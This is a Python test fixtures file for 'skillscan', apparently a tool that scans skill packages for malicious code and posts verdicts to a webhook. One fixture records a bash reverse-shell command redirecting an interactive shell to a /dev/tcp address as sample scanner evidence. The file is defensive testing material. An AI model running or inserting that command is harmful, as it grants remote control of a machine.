"""Fixtures: a verdict store under tmp, stored scans, a webhook receiver on loopback."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from skillscan import __version__
from skillscan.config import Settings
from skillscan.models import (
    Category,
    Decision,
    Finding,
    ScanReport,
    Severity,
    SkillIdentity,
    Verdict,
)
from skillscan.store import VerdictStore
from tests.post.receiver import ReceiverState, webhook_receiver

SECRET = "whsec-test-5d1f3a9b7c"
CLAWHUB_TOKEN = "clh_staffTokenForTests0123456789abcdefABCDEF"

REVERSE_SHELL = Finding(
    rule_id="bash-dev-tcp-reverse-shell",
    analyzer="treesitter",
    category=Category.REVERSE_SHELL,
    severity=Severity.CRITICAL,
    path="scripts/update.sh",
    line=7,
    message="interactive shell redirected to a TCP socket",
    evidence="bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
)
UNDECLARED_ENV = Finding(
    rule_id="env-undeclared",
    analyzer="manifest",
    category=Category.MANIFEST,
    severity=Severity.LOW,
    path="scripts/update.sh",
    line=3,
    message="reads WEATHER_TOKEN, not declared in requires.env",
)


def report(
    verdict: Verdict, *, slug: str = "weather", version: str = "1.0.0", findings: tuple[Finding, ...] = ()
) -> ScanReport:
    decision = {Verdict.MALICIOUS: Decision.BLOCK, Verdict.CLEAN: Decision.ALLOW}.get(verdict, Decision.WARN)
    return ScanReport(
        skill=SkillIdentity(
            owner="acme", slug=slug, version=version, fingerprint=f"fp-{slug}-{version}-{verdict}"
        ),
        source=f"clawhub:@acme/{slug}@{version}",
        files=(),
        findings=findings,
        errors=(),
        verdict=verdict,
        decision=decision,
        reason=f"{verdict}: {len(findings)} finding(s)",
        tool_version=__version__,
        ruleset_digest="ruleset-digest-0123456789abcdef",
    )


@pytest.fixture
def store(tmp_path: Path) -> Iterator[VerdictStore]:
    s = VerdictStore(f"sqlite:///{tmp_path / 'verdicts.db'}")
    yield s
    s.close()


@pytest.fixture
def receiver() -> Iterator[tuple[str, ReceiverState]]:
    with webhook_receiver(SECRET) as (url, state):
        yield url, state


@pytest.fixture
def post_settings(tmp_path: Path, receiver: tuple[str, ReceiverState]) -> Settings:
    url, _ = receiver
    return replace(
        Settings(),
        data_dir=tmp_path,
        webhook_url=url,
        webhook_secret=SECRET,
        report_base_url="https://skillscan.example.test",
        post_backoff_s=0.05,
        post_backoff_max_s=0.4,
        post_max_attempts=4,
        post_timeout_s=2.0,
    )
